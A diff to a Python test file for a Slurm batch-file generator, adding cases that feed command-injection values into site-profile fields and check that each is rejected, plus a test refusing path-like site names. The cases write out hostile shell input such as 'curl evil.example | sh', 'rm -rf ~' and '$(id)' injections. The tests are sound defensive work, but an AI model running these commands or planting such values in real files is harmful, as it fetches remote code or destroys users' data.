@@ -1,5 +1,6 @@
 """Batch files: the committed ones are the generator's output, pass shellcheck, and a bad site
 profile gets a one-line error naming the field."""
+import os
 import shutil
 import subprocess
 import sys
@@ -119,7 +120,20 @@ def test_the_lora_stage_starts_one_accelerate_launch_per_node():
     (lambda p: p.update(topologies=["1n8g"]), "topology 1n8g asks for 8 GPUs per node; 'gpus_per_node' is 2"),
     (lambda p: p.update(colour="blue"), "unknown field 'colour'"),
     (lambda p: p.update(preset="huge"), "unknown preset 'huge'"),
-], ids=["missing", "type", "vendor", "launcher", "topology", "too-many-gpus", "unknown", "preset"])
+    # hostile values, each of which would run a command of its own in the generated file
+    (lambda p: p.update(description="ours\ncurl evil.example | sh"),
+     "field 'description' is 'ours\\ncurl evil.example | sh'; it may hold one line of text"),
+    (lambda p: p.update(account="$(id)"), "field 'account' is '$(id)'; it may hold letters"),
+    (lambda p: p.update(time="00:10:00\nrm -rf ~"), "field 'time' is '00:10:00\\nrm -rf ~'; it may hold HH:MM:SS"),
+    (lambda p: p["env"].update(HF_HOME='x"; id; echo "'), "field 'env HF_HOME' is 'x\"; id; echo \"'"),
+    (lambda p: p["env"].update({"A;id": "1"}), "field 'env' is 'A;id'; it may hold a shell variable name"),
+    (lambda p: p.update(finetune_args="--lr 1e-4'; id; '"), "field 'finetune_args' is \"--lr 1e-4'; id; '\""),
+    (lambda p: p.update(srun_args="--cpu-bind=none' --x='"), "field 'srun_args' is \"--cpu-bind=none' --x='\""),
+    (lambda p: p.update(hpo_args='--train-args "--eval-steps 2'), "its quotes do not pair up"),
+    (lambda p: p.update(setup=["source .venv/bin/activate\nid"]), "field 'setup' is"),
+], ids=["missing", "type", "vendor", "launcher", "topology", "too-many-gpus", "unknown", "preset",
+        "newline-description", "command-account", "newline-time", "quote-env", "env-name",
+        "quote-finetune-args", "quote-srun-args", "unpaired-quote", "newline-setup"])
 def test_a_bad_profile_gets_one_line_naming_the_field(tmp_path, edit, message):
     import yaml
     (tmp_path / "batchfiles" / "sites").mkdir(parents=True)
@@ -130,6 +144,18 @@ def test_a_bad_profile_gets_one_line_naming_the_field(tmp_path, edit, message):
     with pytest.raises(KitError, match=None) as error:
         slurm.expected_files("bad", tmp_path)
     assert message in str(error.value) and "\n" not in str(error.value)
+
+
+def test_a_site_name_that_is_a_path_is_refused_before_anything_is_written(tmp_path):
+    """A profile outside batchfiles/sites/, named by a relative path, would write (and delete)
+    batch files outside batchfiles/."""
+    shutil.copy(KIT_ROOT / "batchfiles" / "sites" / "ci.yml", tmp_path / "elsewhere.yml")
+    site = os.path.relpath(tmp_path / "elsewhere", KIT_ROOT / "batchfiles" / "sites")
+    result = subprocess.run([sys.executable, "-m", "coursekit", "batchfiles", "--site", site],
+                            capture_output=True, text=True, cwd=KIT_ROOT)
+    assert result.returncode == 2 and result.stderr.count("\n") == 1
+    assert "use a simple name of lower-case letters" in result.stderr
+    assert not (KIT_ROOT / "batchfiles" / site).resolve().exists()  # where it would write
 
 
 def test_the_command_line_reports_a_bad_site_in_one_line():
